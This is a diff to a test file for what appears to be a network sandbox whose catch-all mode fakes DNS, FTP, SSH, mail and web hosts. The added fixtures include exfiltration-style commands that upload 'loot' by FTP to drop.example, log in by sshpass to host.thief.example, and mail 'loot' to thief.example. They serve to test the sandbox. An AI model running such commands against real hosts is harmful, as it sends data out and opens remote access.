@@ -15,7 +15,7 @@ const ANSWER = /^\w{4}[89]/ // a DNS header: an id, then QR set
 
 const knocks = v.record(v.string(), v.object({ from: v.string(), got: v.string() }))
 
-test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3') }, async (t) => {
+test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3', 'ssh', 'sshpass') }, async (t) => {
   const world = await inside(
     {
       names: 'dig +short one.example; dig +short one.example AAAA; dig +short one.example; dig +short two.example',
@@ -27,6 +27,8 @@ test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3') }, async (t) =
       literal: `${CURL} 'https://[2600::1]:9443/'`,
       own: `${CURL} -4 https://www.harbor.test/`,
       lacking: 'dig +short nope.harbor.test',
+      files: `printf loot | curl -sS -m 10 -u spy:secret -T - ftp://drop.example/loot.txt && curl -sS -m 10 -u spy:secret ftp://drop.example/loot.txt`,
+      shell: 'sshpass -p any ssh bob@host.thief.example "whoami; hostname"',
       knock: `/usr/bin/python3 ${KNOCK}`,
       mail: `printf 'Subject: loot\\r\\n\\r\\nhere\\r\\n' | ${SEND} && curl -sS -m 5 -u drop@thief.example:other imaps://imap.thief.example/INBOX -X 'STATUS INBOX (MESSAGES)'`,
     },
@@ -54,6 +56,10 @@ test('--catch-all', { skip: skipWithout('curl', 'dig', 'python3') }, async (t) =
   })
   await t.test('mail hosts of anybody take any login and any mail, and show it', () => {
     assert.match(world.output('mail'), /STATUS INBOX \(MESSAGES 1\)/)
+  })
+  await t.test('file hosts of anybody take any login and any file, and SSH asks nothing about their keys', () => {
+    assert.equal(world.output('files'), 'loot')
+    assert.equal(world.output('shell'), 'bob\nhost\n')
   })
   await t.test('other ports answer by the first bytes, from the address and port that was asked', () => {
     assert.equal(world.output('literal'), '2 200 2600::1 9443')
